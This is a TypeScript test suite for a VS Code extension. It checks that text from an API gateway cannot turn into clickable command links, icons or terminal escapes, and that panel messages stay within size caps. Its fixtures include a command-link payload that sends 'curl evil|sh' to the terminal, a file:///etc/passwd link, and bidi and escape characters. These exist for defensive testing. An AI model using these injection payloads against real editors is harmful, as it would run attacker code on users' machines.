// Issue items 1 and 8: text from the network (or a settings file) never forms a link, an icon or markup on an
// editor surface, and every string the host posts to the panel fits the protocol's caps.
import { strict as assert } from 'node:assert';
import * as fs from 'node:fs';
import * as path from 'node:path';
import type { VerificationResult, VerifyOptions } from '../../../src/core/types';
import { COMMANDS } from '../../../src/host/bootstrap/commandIds';
import { Connection } from '../../../src/host/connection/connectionState';
import { SECRET_KEY } from '../../../src/host/connection/keychain';
import { SetupController } from '../../../src/host/panel/setupController';
import { describeStatus } from '../../../src/host/commands/statusBar';
import { Logger } from '../../../src/host/shared/logger';
import { parseHostMessage, type HostMessage } from '../../../src/protocol/messages';
import { FakeClipboard, FakeLogChannel, FakeNotify, fakeResult, hostParts, tick, LoadedModule, dontSend } from './fakes';
import { wireCommands } from './commandsHarness';
import { fakeVscode, type Script } from './fakeVscode';

/** VS Code's own notification link syntax (vs/base/common/linkedText.ts). */
const LINK = /\[([^\]]+)\]\(((?:https?:\/\/|command:|file:)[^)\s]+)(?: (["'])(.+?)(\3))?\)/gi;
/** An unescaped `$(icon)` in a label or a supportThemeIcons MarkdownString. */
const ICON = /(?<!\\)\$\([A-Za-z0-9-~]+\)/;
const HOSTILE = '[Open Billing](command:workbench.action.terminal.sendSequence?%7B%22text%22%3A%22curl%20evil%7Csh%5Cn%22%7D)';
const HOSTILE_ID = `$(alert) ${HOSTILE}`;

function hostile(o: VerifyOptions): VerificationResult {
  const r = fakeResult(o, false);
  r.diagnosis = {
    ...r.diagnosis,
    title: `Refused ${HOSTILE}`,
    detail: `The server says: ${HOSTILE} and https://evil.example/x and file:///etc/passwd`,
    short: HOSTILE_ID,
  };
  return r;
}

function commandsSetup(script: Script, verify: (o: VerifyOptions) => VerificationResult) {
  const h = hostParts();
  const f = fakeVscode(script);
  const calls: VerifyOptions[] = [];
  const gw = { verify: async (o: VerifyOptions) => (calls.push(o), verify(o)) };
  const { connection, cmds } = wireCommands(h, f.vs, gw);
  return { ...h, f, calls, connection, cmds };
}

function assertNoLink(text: string, where: string) {
  LINK.lastIndex = 0;
  assert.ok(!LINK.test(text), `${where} forms a link: ${text}`);
}

describe('text from the network on editor surfaces', () => {
  it('a failure notification (Verify) cannot carry a command, https or file link from the gateway', async () => {
    const s = commandsSetup({}, hostile);
    s.secrets.data.set(SECRET_KEY, 'sk-ruta-saved-1234567890');
    await s.f.vs.commands.executeCommand(COMMANDS.verify);
    const err = s.f.log.find((l) => l.kind === 'error');
    assert.ok(err, 'an error notification');
    assertNoLink(err.message, 'the notification');
    assert.match(err.message, /Open Billing/, 'the server text is still readable');
    for (const item of err.items ?? []) assertNoLink(item, 'a button');
  });

  it('Set API Key: the failure notification has no link either', async () => {
    const s = commandsSetup({ inputBox: 'sk-ruta-typed-1234567890' }, hostile);
    await s.f.vs.commands.executeCommand(COMMANDS.setApiKey);
    const err = s.f.log.find((l) => l.kind === 'error');
    assert.ok(err);
    assertNoLink(err.message, 'the notification');
  });

  it('an error thrown with network text (reportError) shows no link', async () => {
    const s = commandsSetup({}, () => {
      throw new Error(HOSTILE);
    });
    s.cmds.reportError(new Error(HOSTILE));
    const err = s.f.log.find((l) => l.kind === 'error');
    assert.ok(err);
    assertNoLink(err.message, 'the error notification');
  });

  it('model picker: hostile model ids form no icon in the quick pick', async () => {
    const s = commandsSetup({ acceptLabel: undefined }, (o) => {
      const r = fakeResult(o, true);
      r.models = [HOSTILE_ID, 'gpt-4.1'];
      return r;
    });
    s.secrets.data.set(SECRET_KEY, 'sk-ruta-saved-1234567890');
    const run = s.f.vs.commands.executeCommand(COMMANDS.selectModel);
    const qp = await waitFor(() => s.f.quickPicks[0]?.items.length === 2 && s.f.quickPicks[0]);
    for (const item of qp.items) {
      assert.ok(!ICON.test(item.label), `label renders an icon: ${item.label}`);
      assert.ok(!ICON.test(item.description ?? ''));
    }
    const hostileItem = qp.items.find((i: { label: string }) => i.label !== 'gpt-4.1');
    qp.selectedItems = [hostileItem];
    qp.hide(); // closes without a choice: nothing to save
    await run;
  });

  it('status bar: a model name from settings and diagnosis text form no icon, link or markup', () => {
    const r = fakeResult({ apiKey: 'k', baseUrl: 'https://api.rutaapi.com/v1' }, true);
    const connected = describeStatus({
      kind: 'checked',
      result: r,
      checkedAt: 0,
      model: HOSTILE_ID,
      baseUrl: `https://x/${HOSTILE}`,
      keyRedacted: 'sk-…',
    });
    assert.ok(!ICON.test(connected.text.replace(/^\$\(check\) /, '')), `status text renders an icon: ${connected.text}`);
    const tooltipValues = connected.tooltip
      .split('\n')
      .filter((l) => !/^\$\(check\)/.test(l))
      .join('\n');
    assertNoLink(tooltipValues, 'tooltip');
    assert.ok(!ICON.test(tooltipValues), `tooltip renders an icon from a value: ${tooltipValues}`);
    const failed = describeStatus({
      kind: 'checked',
      result: hostile({ apiKey: 'k', baseUrl: 'u' }),
      checkedAt: 0,
      model: 'm',
      baseUrl: 'u',
      keyRedacted: 'sk-…',
    });
    const text = failed.text.replace(/^\$\((error|warning)\) /, '');
    assert.ok(!ICON.test(text), `status text renders an icon from diagnosis.short: ${failed.text}`);
    assert.ok(!/(?<!\\)\$\(alert\)/.test(failed.tooltip), 'tooltip renders an icon from the diagnosis');
  });

  it('log lines: control, bidi and zero-width characters from the network become visible escapes', () => {
    const ch = new FakeLogChannel();
    const log = new Logger(ch);
    log.warn('server said', 'ok\u001b[2J\u202egnp.exe\u200b\r\nfake line');
    const line = ch.lines[0];
    // eslint-disable-next-line no-control-regex -- ESC is what must not reach the log
    assert.ok(!/[\u001b\u202e\u200b]/.test(line), `raw controls in a log line: ${JSON.stringify(line)}`);
    assert.match(line, /\\x1b/);
  });
});

describe('one door for notifications', () => {
  it('no host module calls window.show*Message except the notifier (whose messages are ShownText)', () => {
    const { readdirSync, readFileSync } = fs;
    const { join } = path;
    const dir = join(__dirname, '../../../src/host');
    // Every folder of src/host (bootstrap/, panel/, …), not just the top one.
    const files = (readdirSync(dir, { recursive: true }) as string[]).map((f) => f.split('\\').join('/'));
    assert.ok(files.includes('panel/setupController.ts'), 'the walk reaches the subfolders');
    const direct = files
      .filter((f) => f.endsWith('.ts') && f !== 'shared/notifier.ts')
      .filter((f) => /\.show(Information|Warning|Error)Message\(/.test(readFileSync(join(dir, f), 'utf8')));
    assert.deepEqual(direct, []);
  });
});

describe('host → panel messages always fit the protocol caps', () => {
  function controllerSetup(result: (o: VerifyOptions) => VerificationResult) {
    const parts = hostParts();
    const posted: unknown[] = [];
    const rejected: unknown[] = [];
    const gw = { verify: async (o: VerifyOptions) => result(o) };
    const connection = new Connection(parts.settings, parts.keychain, new LoadedModule(gw), parts.logger, dontSend);
    const controller = new SetupController({
      post: (m) => {
        const wire = JSON.parse(JSON.stringify(m));
        // What the panel's parser does with it: a message that fails the schema is dropped.
        if (parseHostMessage(wire)) posted.push(wire);
        else rejected.push(wire);
        return Promise.resolve(true);
      },
      ...parts,
      connection,
      clipboard: new FakeClipboard(),
      notify: new FakeNotify(),
      open: () => undefined,
      supportReport: () => '',
      isCursor: false,
      hasWorkspace: false,
    });
    const of = (type: HostMessage['type']) => posted.filter((m) => (m as HostMessage).type === type) as HostMessage[];
    return { ...parts, controller, posted, rejected, of };
  }

  it('an 8 KB x-request-id and a 9 KB redirect detail still deliver the verdict', async () => {
    const s = controllerSetup((o) => {
      const r = fakeResult(o, false);
      r.diagnosis = {
        ...r.diagnosis,
        code: 'redirect',
        detail: `redirects to ${'https://a.example/'.padEnd(9000, 'x')}`,
        evidence: { status: 302, requestId: 'r'.repeat(8192) },
      };
      r.steps = [{ name: 'models', ok: false, status: 302, requestId: 'r'.repeat(8192), latencyMs: 3, code: 'redirect' } as never];
      return r;
    });
    await s.controller.handle({ type: 'verify', baseUrl: 'https://api.rutaapi.com/v1', apiKey: 'sk-ruta-typed-1234567890' });
    assert.deepEqual(
      s.rejected.map((m) => (m as HostMessage).type),
      [],
      'messages the panel would drop',
    );
    const done = s.of('verifyDone').at(-1);
    assert.ok(done && done.type === 'verifyDone' && done.diagnosis?.code === 'redirect', 'the verdict arrives');
    assert.ok(done.type === 'verifyDone' && done.diagnosis!.requestId!.endsWith('…'));
  });

  it('one 600-character model id does not hide the others', async () => {
    const s = controllerSetup((o) => {
      const r = fakeResult(o, true);
      r.models = ['gpt-4.1', 'm'.repeat(600), 'deepseek-chat'];
      return r;
    });
    await s.controller.handle({ type: 'verify', baseUrl: 'https://api.rutaapi.com/v1', apiKey: 'sk-ruta-typed-1234567890' });
    assert.deepEqual(
      s.rejected.map((m) => (m as HostMessage).type),
      [],
      'messages the panel would drop',
    );
    const models = s.of('models').at(-1);
    assert.ok(models && models.type === 'models');
    assert.deepEqual(models.models, ['gpt-4.1', 'deepseek-chat']);
    assert.ok(
      s.channel.lines.some((l) => /model id/i.test(l) && !l.includes('m'.repeat(600))),
      'the dropped id is noted in the log, not repeated',
    );
  });
});

async function waitFor<T>(fn: () => T | false | undefined | 0): Promise<T> {
  for (let i = 0; i < 2000; i++) {
    const v = fn();
    if (v) return v;
    await tick(1);
  }
  throw new Error('condition never held');
}
